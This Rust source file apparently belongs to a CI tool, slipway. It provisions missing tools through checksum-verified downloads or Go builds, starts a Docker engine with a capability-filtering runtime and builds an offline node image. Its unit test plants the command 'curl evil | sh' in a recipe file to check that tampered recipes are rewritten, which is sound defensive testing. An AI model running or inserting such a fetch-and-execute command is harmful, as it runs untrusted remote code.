//! Set-up a run does for itself: a tool PATH lacks (or has too old) is provisioned
//! into slipway's cache — the official release, checksum verified, else built with
//! slipway's recipe from the Go module proxy — and used for every call; a Docker
//! engine that is installed but stopped is started. Recipes are written out from
//! the binary before they run.

use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use crate::exec::{Executor, Failure};
use crate::model::{Cmd, Error, Event, Stage};
use crate::plan::{DockerStart, Fetch, Supply, ToolCheck};
use crate::providers::NodeImage;
use crate::tools::registry::ToolId;
use crate::tools::{docker, provision};

/// Write a recipe's files to its directory (0700, named by their hash). An existing
/// directory is used only when every file in it is still the one slipway carries;
/// otherwise it is written again.
pub fn materialize(recipe: &provision::Recipe, cache: &Path) -> Result<PathBuf, String> {
    let dir = recipe.dir(cache);
    let intact = |dir: &Path| {
        recipe
            .all_files()
            .all(|(name, text)| std::fs::read(dir.join(name)).is_ok_and(|b| b == text.as_bytes()))
    };
    if dir.join(recipe.entry).is_file() {
        if intact(&dir) {
            return Ok(dir);
        }
        std::fs::remove_dir_all(&dir).map_err(|e| format!("{}: {e}", dir.display()))?;
    }
    let parent = dir.parent().ok_or("recipe directory has no parent")?;
    super::tool_cache::private_dir(parent)?;
    let tmp = tempfile::tempdir_in(parent).map_err(|e| format!("{}: {e}", parent.display()))?;
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(tmp.path(), std::fs::Permissions::from_mode(0o700))
            .map_err(|e| format!("{}: {e}", tmp.path().display()))?;
    }
    for (name, text) in recipe.all_files() {
        let f = tmp.path().join(name);
        if let Some(d) = f.parent() {
            std::fs::create_dir_all(d).map_err(|e| e.to_string())?;
        }
        std::fs::write(&f, text).map_err(|e| format!("{}: {e}", f.display()))?;
    }
    let tmp = tmp.keep();
    if let Err(e) = std::fs::rename(&tmp, &dir) {
        let _ = std::fs::remove_dir_all(&tmp);
        // Another run wrote it first: fine.
        if !dir.join(recipe.entry).is_file() {
            return Err(format!("{}: {e}", dir.display()));
        }
    }
    Ok(dir)
}

/// Put an executable at `to` whole or not at all: `fill` writes a temporary file
/// beside it, which is made executable and renamed into place.
fn place_executable(
    to: &Path,
    fill: impl FnOnce(&Path) -> std::io::Result<()>,
) -> Result<(), String> {
    use std::os::unix::fs::PermissionsExt;
    let dir = to.parent().ok_or("no parent directory")?;
    std::fs::create_dir_all(dir).map_err(|e| format!("{}: {e}", dir.display()))?;
    let tmp = dir.join(format!(".{}.partial", std::process::id()));
    fill(&tmp).map_err(|e| format!("{}: {e}", tmp.display()))?;
    std::fs::set_permissions(&tmp, std::fs::Permissions::from_mode(0o755))
        .map_err(|e| e.to_string())?;
    std::fs::rename(&tmp, to).map_err(|e| format!("{}: {e}", to.display()))
}

fn interrupted() -> Error {
    Error::interrupted(Some(Stage::Preflight), "preflight was interrupted")
}

/// How a provisioning attempt ended.
pub enum Got {
    /// The binary is at the supply's path; how it got there.
    Yes(String),
    /// It could not be provisioned: why, for each way tried, and what would help.
    No(String, &'static str),
}

fn note(ex: &Executor, message: String) {
    ex.events.emit(Event::Note {
        stage: Stage::Preflight,
        step: None,
        message,
    });
}

/// The official release, checksum verified. `Err` says why not (no network here,
/// a checksum that does not match, …).
fn download(ex: &Executor, tool: &str, d: &Fetch, to: &Path) -> Result<(), String> {
    if ex.locate("curl").is_none() {
        return Err("curl is not on PATH".into());
    }
    if let Some(dir) = d.file.parent() {
        std::fs::create_dir_all(dir).map_err(|e| format!("{}: {e}", dir.display()))?;
    }
    let short = |e: crate::exec::ExecError| {
        e.tail
            .iter()
            .rev()
            .find(|l| !l.trim().is_empty())
            .cloned()
            .unwrap_or_else(|| e.to_string())
    };
    let want = &d.sha256;
    ex.run(Stage::Preflight, &d.fetch, None)
        .map_err(|e| format!("download: {}", short(e)))?;
    let got = super::tool_cache::sha256_file(&d.file).map_err(|e| e.to_string())?;
    if got != *want {
        let _ = std::fs::remove_file(&d.file);
        return Err(format!(
            "{tool}'s SHA-256 is {got}, but {want} is {}: not installed",
            d.pinned_by
        ));
    }
    let binary = match (&d.unpack, &d.unpacked) {
        (Some(u), Some(at)) => {
            ex.run(Stage::Preflight, u, None)
                .map_err(|e| format!("unpack: {}", short(e)))?;
            at.clone()
        }
        _ => d.file.clone(),
    };
    place_executable(to, |tmp| std::fs::copy(&binary, tmp).map(drop))?;
    record(to)
}

/// Record the SHA-256 of a binary slipway just provisioned in the cache's manifest.
fn record(path: &Path) -> Result<(), String> {
    let m = super::tool_cache::Manifest::user().ok_or("no cache directory (HOME is not set)")?;
    m.record(path)
}

/// Provision `t` per its supply: download, else build. Progress goes out as notes.
pub fn get(ex: &Executor, t: &ToolCheck, s: &Supply) -> Result<Got, Error> {
    let started = Instant::now();
    let mut why = vec![];
    if let Some(d) = &s.download {
        note(
            ex,
            format!("{}: downloading {} (official release)", t.tool, s.version),
        );
        match download(ex, t.tool.name(), d, &s.path) {
            Ok(()) => {
                return Ok(Got::Yes(format!(
                    "downloaded, SHA-256 verified, in {}s",
                    started.elapsed().as_secs()
                )))
            }
            Err(e) => {
                if ex.cancelled() {
                    return Err(interrupted());
                }
                note(ex, format!("{}: no download ({e})", t.tool));
                why.push(format!("download: {e}"));
            }
        }
    }
    if let Some(u) = &s.unpinned {
        note(ex, format!("{}: not downloaded: {u}", t.tool));
        why.push(format!("download: {u}"));
    }
    let Some(build) = &s.build else {
        why.push("slipway has no build recipe for it".into());
        return Ok(Got::No(
            why.join("; "),
            "or let this machine download it (a proxy, or [tools] mirror)",
        ));
    };
    if ex.locate("go").is_none() {
        why.push("building it needs Go (`go` is not on PATH)".into());
        return Ok(Got::No(
            why.join("; "),
            "or install Go (https://go.dev/dl/) and slipway builds it",
        ));
    }
    if let Err(cmd) = packages_present(ex, &s.packages, s.install_packages) {
        why.push(format!("building it needs Debian packages this machine lacks (slipway installs packages only when asked): `{cmd}`"));
        return Ok(Got::No(
            why.join("; "),
            "or run that command, or rerun with --install-packages (SLIPWAY_INSTALL_PACKAGES=1)",
        ));
    }
    let Some(cache) = provision::cache_root() else {
        why.push("no cache directory (HOME is not set)".into());
        return Ok(Got::No(why.join("; "), "or set HOME"));
    };
    if let Some(recipe) = provision::recipe_for(t.tool, &s.version) {
        materialize(recipe, &cache).map_err(|e| {
            Error::new(
                Stage::Preflight,
                format!("cannot write slipway's build recipe: {e}"),
            )
        })?;
    }
    note(
        ex,
        format!(
            "{}: building {} from the Go module proxy (minutes the first time; cached in {})",
            t.tool,
            s.version,
            s.path
                .parent()
                .map(Path::display)
                .map(|d| d.to_string())
                .unwrap_or_default()
        ),
    );
    match ex.run(Stage::Preflight, build, None) {
        Ok(_) if s.path.is_file() => match record(&s.path) {
            Ok(()) => Ok(Got::Yes(format!(
                "built from the Go module proxy in {}s, SHA-256 recorded",
                started.elapsed().as_secs()
            ))),
            Err(e) => {
                why.push(format!("cannot record its SHA-256: {e}"));
                Ok(Got::No(why.join("; "), "or make slipway's cache writable"))
            }
        },
        Ok(_) => {
            why.push(format!("the build did not leave {}", s.path.display()));
            Ok(Got::No(why.join("; "), "or read the build's output above"))
        }
        Err(e) if e.failure == Failure::Interrupted => Err(interrupted()),
        Err(e) => {
            why.push(format!(
                "build: {} ({})",
                e,
                e.tail.last().map(String::as_str).unwrap_or("")
            ));
            Ok(Got::No(
                why.join("; "),
                "or check that Go's module proxy answers (GOPROXY) and rerun",
            ))
        }
    }
}

/// Use a tool slipway provisioned earlier wherever PATH has none (no process runs).
/// `pinned`: the version the pipeline's `[tools]` pins for a tool.
pub fn adopt_provisioned(ex: &Executor, pinned: &dyn Fn(ToolId) -> Option<String>) {
    let Some(cache) = provision::cache_root() else {
        return;
    };
    for (id, p) in ToolId::provisioned() {
        let version = pinned(id).unwrap_or_else(|| p.default.to_string());
        let path = provision::tool_path(&cache, id, &version);
        let tool = id.name();
        // Only a binary whose SHA-256 is still the one recorded when slipway put it
        // there (preflight provisions again what is not).
        let verified =
            || super::tool_cache::Manifest::user().is_some_and(|m| m.verify(&path).is_ok());
        if which::which(tool).is_err() && path.is_file() && verified() {
            ex.use_tool(tool, path);
        }
    }
}

/// The version check of `t`, run from `path`.
pub fn version_cmd(t: &ToolCheck, path: &Path) -> Cmd {
    let mut c = t.version.clone();
    c.program = path.to_string_lossy().into_owned();
    c
}

/// Can a stopped engine be started here: root, dockerd installed, and no systemd
/// (which would own it)? `Err` is the fix to print instead.
pub fn can_start_docker(ex: &Executor) -> Result<(), String> {
    if let Some(there) = engine_named_elsewhere() {
        return Err(format!(
            "{there} says where the Docker engine is, so slipway starts none here: start that engine (or check the address), or unset it to use a local one"
        ));
    }
    // Tests give both answers on any machine through these two variables (and only
    // they): SLIPWAY_TEST_EUID stands for geteuid(2), SLIPWAY_TEST_SYSTEMD ("1"/"0")
    // for whether systemd runs this host.
    let root = match ex.vars.get("SLIPWAY_TEST_EUID") {
        Some(uid) => uid.trim() == "0",
        // SAFETY: geteuid(2) has no preconditions.
        None => rustix::process::geteuid().is_root(),
    };
    let systemd = match ex.vars.get("SLIPWAY_TEST_SYSTEMD") {
        Some(v) => v == "1",
        None => Path::new("/run/systemd/system").is_dir(),
    };
    if systemd {
        return Err("start it: `sudo systemctl start docker`".into());
    }
    if !root {
        return Err("start it as root (`sudo dockerd &`), or run slipway as root to let it start the engine".into());
    }
    if ex.locate("dockerd").is_none() {
        return Err("install a Docker engine (Debian: `apt-get install docker.io`); slipway starts an installed `dockerd` itself".into());
    }
    if ex.locate("runc").is_none() {
        return Err("dockerd is installed but runc is not (Debian: `apt-get install runc`)".into());
    }
    Ok(())
}

/// The engine the environment names, if not the local default (`DOCKER_HOST`,
/// `DOCKER_CONTEXT`, or the docker CLI's current context in
/// `$DOCKER_CONFIG/config.json`, else `~/.docker/config.json`).
pub fn engine_named_elsewhere() -> Option<String> {
    let var = |k: &str| std::env::var(k).ok();
    let config = std::env::var_os("DOCKER_CONFIG")
        .filter(|v| !v.is_empty())
        .map(PathBuf::from)
        .or_else(|| std::env::var_os("HOME").map(|h| PathBuf::from(h).join(".docker")))
        .and_then(|d| std::fs::read_to_string(d.join("config.json")).ok());
    docker::engine_named_elsewhere(
        var("DOCKER_HOST").as_deref(),
        var("DOCKER_CONTEXT").as_deref(),
        config.as_deref(),
    )
}

/// Start dockerd in the background and wait until `docker info` answers. Its
/// daemon.json is the host's, merged; its runtime wrapper runs a copy of this very
/// binary (`__oci-capfilter`), so it keeps working when the binary it was started
/// from goes away (a `cargo` target directory).
pub fn start_docker(ex: &Executor, ds: &DockerStart, info: &Cmd) -> Result<String, String> {
    let runc = ex.locate("runc").ok_or("runc is not on PATH")?;
    let host = match std::fs::read_to_string(&ds.host_config) {
        Ok(t) => Some(t),
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => None,
        Err(e) => return Err(format!("cannot read {}: {e}", ds.host_config.display())),
    };
    let config = docker::daemon_config(&ds.wrapper, host.as_deref())
        .map_err(|e| format!("cannot merge {}: {e}", ds.host_config.display()))?;
    // dockerd runs what is in this directory as root: only its owner may change it.
    if let Some(dir) = ds.wrapper.parent() {
        super::tool_cache::private_dir(dir)?;
    }
    let me = std::env::current_exe().map_err(|e| format!("cannot find slipway's binary: {e}"))?;
    place_executable(&ds.filter, |tmp| std::fs::copy(&me, tmp).map(drop))?;
    place_executable(&ds.wrapper, |tmp| {
        std::fs::write(tmp, docker::runtime_wrapper(&ds.filter, &runc))
    })?;
    std::fs::write(&ds.config, config).map_err(|e| format!("{}: {e}", ds.config.display()))?;
    note(
        ex,
        format!(
            "docker: no engine answers and none is named elsewhere: starting dockerd on unix:///var/run/docker.sock (config {}{}; runtime {} drops only the capabilities this host's bounding set lacks; log {})",
            ds.config.display(),
            if host.is_some() {
                format!(", merged from {}", ds.host_config.display())
            } else {
                String::new()
            },
            docker::RUNTIME,
            ds.log.display()
        ),
    );
    let pid = ex
        .start_daemon(Stage::Preflight, &ds.dockerd, &ds.log)
        .map_err(|e| e.to_string())?;
    note(ex, format!("docker: started dockerd (pid {pid})"));
    let end = Instant::now() + Duration::from_secs(60);
    while Instant::now() < end {
        if let Ok(o) = ex.probe(Stage::Preflight, info, Some(end)) {
            if o.ok() {
                return Ok(format!(
                    "started by slipway (pid {pid}; runtime {} drops only the capabilities this host's bounding set lacks; log {})",
                    docker::RUNTIME,
                    ds.log.display()
                ));
            }
        }
        if !ex.sleep(Duration::from_millis(500)) {
            return Err("interrupted".into());
        }
    }
    let tail = std::fs::read_to_string(&ds.log).unwrap_or_default();
    Err(format!(
        "dockerd did not answer within 60 s; its log ends: {}",
        tail.lines().rev().take(3).collect::<Vec<_>>().join(" | ")
    ))
}

/// `Ok` when every package a recipe needs is here, or installing them was allowed;
/// else the command that installs the missing ones.
fn packages_present(
    ex: &Executor,
    needs: &[crate::providers::Package],
    allowed: bool,
) -> Result<(), String> {
    let missing: Vec<&str> = needs
        .iter()
        .filter(|p| ex.locate(&p.program).is_none())
        .flat_map(|p| p.packages.iter().map(String::as_str))
        .collect();
    if allowed || missing.is_empty() {
        return Ok(());
    }
    Err(format!("apt-get install -y {}", missing.join(" ")))
}

/// The last `n` lines of `text`, in order.
fn last_lines(text: &str, n: usize) -> Vec<String> {
    let all: Vec<&str> = text.lines().collect();
    all[all.len().saturating_sub(n)..]
        .iter()
        .map(|l| l.to_string())
        .collect()
}

/// Make sure the cluster's node image is here. `Ok(true)`: it had to be built
/// offline, so the cluster is created from that (`NodeImage::create`).
pub fn node_image(ex: &Executor, n: &NodeImage, deadline: Instant) -> Result<bool, Error> {
    let stage = Stage::Cluster;
    let stop = |e: crate::exec::ExecError, what: &str| {
        if e.failure == Failure::Interrupted {
            Error::interrupted(Some(stage), "interrupted")
        } else {
            e.into_error(stage, what)
        }
    };
    let present = ex
        .probe(stage, &n.inspect, Some(deadline))
        .map_err(|e| stop(e, "look for the node image"))?;
    if present.ok() {
        return Ok(false);
    }
    if n.image != n.offline {
        let pulled = ex
            .probe(stage, &n.pull, None)
            .map_err(|e| stop(e, "pull the node image"))?;
        if pulled.ok() {
            return Ok(false);
        }
        if !provision::is_unreachable_pull(&pulled.stderr) {
            let mut e = Error::new(stage, format!("cannot pull the node image {}", n.image));
            e.command = Some(n.pull.display());
            e.child_exit = Some(pulled.code);
            e.tail = last_lines(&pulled.stderr, 5);
            e.hint =
                Some("fix what `docker pull` says (disk space, credentials), then rerun".into());
            return Err(e);
        }
        if let Some(pin) = &n.pinned {
            let mut e = Error::new(
                stage,
                format!(
                    "cannot pull the node image {} ({pin}), and a pinned version is never replaced by slipway's offline image of another Kubernetes",
                    n.image
                ),
            );
            e.command = Some(n.pull.display());
            e.child_exit = Some(pulled.code);
            e.tail = last_lines(&pulled.stderr, 5);
            e.hint = Some(format!(
                "make {} pullable here (a registry mirror, `docker load`), or drop the pin to use slipway's offline image {} (`scripts/kind-node-image.sh` builds it; Kubernetes {})",
                n.image,
                n.offline,
                provision::OFFLINE_NODE_K8S
            ));
            return Err(e);
        }
        let why = pulled
            .stderr
            .lines()
            .rev()
            .find(|l| !l.trim().is_empty())
            .unwrap_or("")
            .trim()
            .to_string();
        ex.events.emit(Event::Note {
            stage,
            step: None,
            message: format!(
                "{} cannot be pulled ({why}): building slipway's offline node image {} instead",
                n.image, n.offline
            ),
        });
    } else {
        ex.events.emit(Event::Note {
            stage,
            step: None,
            message: format!("{} is not here: building it", n.offline),
        });
    }
    if let Err(cmd) = packages_present(ex, &n.packages, n.install_packages) {
        let mut e = Error::new(
            stage,
            format!("building {} needs Debian packages this machine lacks, and slipway installs packages only when asked", n.offline),
        );
        e.hint = Some(format!("install them: `{cmd}`, or rerun with --install-packages (SLIPWAY_INSTALL_PACKAGES=1) to let slipway's recipe install them"));
        return Err(e);
    }
    let cache = provision::cache_root()
        .ok_or_else(|| Error::new(stage, "no cache directory (HOME is not set)".to_string()))?;
    let recipe = provision::recipe_named(&n.recipe)
        .ok_or_else(|| Error::new(stage, format!("slipway has no recipe named {}", n.recipe)))?;
    materialize(recipe, &cache).map_err(|e| {
        Error::new(
            stage,
            format!("cannot write slipway's {} recipe: {e}", recipe.name),
        )
    })?;
    ex.events.emit(Event::Progress {
        stage,
        message: "node image: about 12 minutes the first time on 2 cores (Go builds, debootstrap); cached afterwards".into(),
    });
    let started = Instant::now();
    ex.run(stage, &n.build, None).map_err(|e| {
        stop(e, &format!("build the offline node image {}", n.offline)).or_hint(Some(
            "the recipe needs Go (and its module proxy) and Debian's packages (debootstrap); its output above names the phase that failed".into(),
        ))
    })?;
    ex.events.emit(Event::Note {
        stage,
        step: None,
        message: format!(
            "{} ready after {}s; the cluster is created from it",
            n.offline,
            started.elapsed().as_secs()
        ),
    });
    Ok(n.image != n.offline)
}

/// `__oci-capfilter -- RUNC-ARGS…`, run by the runtime wrapper of a dockerd slipway
/// started, before runc: drop from the OCI spec runc is about to read the
/// capabilities the bounding set `bnd` (this process's `CapBnd` unless given) lacks.
/// Edits the spec as JSON, only when something is to be dropped, in place (same
/// file, same mode). Anything it cannot read is left to runc to judge.
pub fn oci_capfilter(args: &[String], bnd: Option<u64>) {
    let Some(bnd) = bnd.or_else(|| {
        crate::plan::DockerStart::cap_bnd(&std::fs::read_to_string("/proc/self/status").ok()?)
    }) else {
        return;
    };
    for (file, kind) in crate::tools::oci::spec_files(args) {
        let Ok(text) = std::fs::read_to_string(&file) else {
            continue;
        };
        if let Some(out) = crate::tools::oci::filter(&text, kind, bnd) {
            let _ = rewrite(&file, out.as_bytes());
        }
    }
}

/// Replace `file`'s content through a temporary file beside it, keeping its mode.
fn rewrite(file: &Path, bytes: &[u8]) -> std::io::Result<()> {
    use std::io::Write;
    let dir = file.parent().unwrap_or(Path::new("."));
    let perms = std::fs::metadata(file)?.permissions();
    let mut tmp = tempfile::NamedTempFile::new_in(dir)?;
    tmp.write_all(bytes)?;
    tmp.as_file().set_permissions(perms)?;
    tmp.persist(file).map(drop).map_err(|e| e.error)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_changed_recipe_file_is_written_again_and_the_directory_is_private() {
        use std::os::unix::fs::PermissionsExt;
        let cache = tempfile::tempdir().unwrap();
        let dir = materialize(&provision::TOOLCHAIN, cache.path()).unwrap();
        let entry = dir.join(provision::TOOLCHAIN.entry);
        let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode(&dir), 0o700);
        assert_eq!(mode(dir.parent().unwrap()), 0o700);
        std::fs::write(&entry, "curl evil | sh\n").unwrap();
        assert_eq!(
            materialize(&provision::TOOLCHAIN, cache.path()).unwrap(),
            dir
        );
        assert_eq!(
            std::fs::read_to_string(&entry).unwrap(),
            provision::TOOLCHAIN.files[0].1,
            "the recipe that runs is the one slipway carries"
        );
    }
}
